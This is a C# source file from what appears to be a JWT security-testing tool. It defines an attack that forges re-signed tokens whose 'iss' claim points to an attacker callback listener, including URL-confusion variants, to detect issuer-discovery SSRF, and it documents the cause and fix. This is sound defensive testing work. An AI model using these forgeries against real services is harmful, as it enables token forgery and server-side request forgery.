using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// <c>iss</c> is the attacker's own web server, and the verifier, built for many tenants, asks it for its keys before anything
/// is verified. RFC 8725 3.8 and 3.10; CVE-2026-32301 (Centrifugo).
/// </summary>
internal sealed class IssDiscoverySsrf : JwtAttack
{
    public override string Id => "CRY1068";

    public override JwtFamily Family => JwtFamily.EmbeddedKey;

    public override IReadOnlyList<int> Cwe => [918, 345];

    public override IReadOnlyList<string> References => ["RFC 8725 3.8", "RFC 8725 3.10", "ASVS 9.1.3", "CVE-2026-32301"];

    public override string Cause => "asks the issuer that an unverified token names (iss) for its keys";

    public override string Why => "anyone can be an issuer, or have the server fetch what they like";

    public override string Fix =>
        "look iss up in a list of issuers and take the metadata address from there: one AddJwtBearer scheme an issuer, each with its own Authority";

    internal override Needs Needs => Needs.Callback;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        if (attacker.Callback is not { } listener)
        {
            yield break;
        }

        var token = attacker.Token;
        var signer = AttackerKeys.PublicKeySignerFor(token.Alg);
        var home = $"127.0.0.1:{listener.Port}";
        yield return At("the attacker's issuer", path => $"http://{home}{path}");
        yield return At("the attacker's issuer, with a slash behind it", path => $"http://{home}{path}/");
        if (TrustedHost.Of(token) is { } trusted)
        {
            yield return At("the genuine host as user name", path => $"http://{trusted}@{home}{path}");
            yield return At("the genuine host in the path", path => $"http://{home}{path}/{trusted}");
        }

        var id = listener.NewId();
        using var door = listener.OpenTlsDoor(id);
        yield return With("the attacker's issuer, over https", id, $"https://{door.Authority}/{id}");

        Forgery At(string variant, Func<string, string> issuer)
        {
            var visit = listener.NewId();
            return With(variant, visit, issuer($"/{visit}/{CallbackDocuments.KeyPath(signer.Alg, token.Kid)}"));
        }

        Forgery With(string variant, string visit, string issuer)
        {
            var payload = token.Payload;
            payload["iss"] = issuer;
            return new Forgery(ResignedJwt.With(token, signer, payload, _ => { }), variant) { Callback = visit };
        }
    }
}
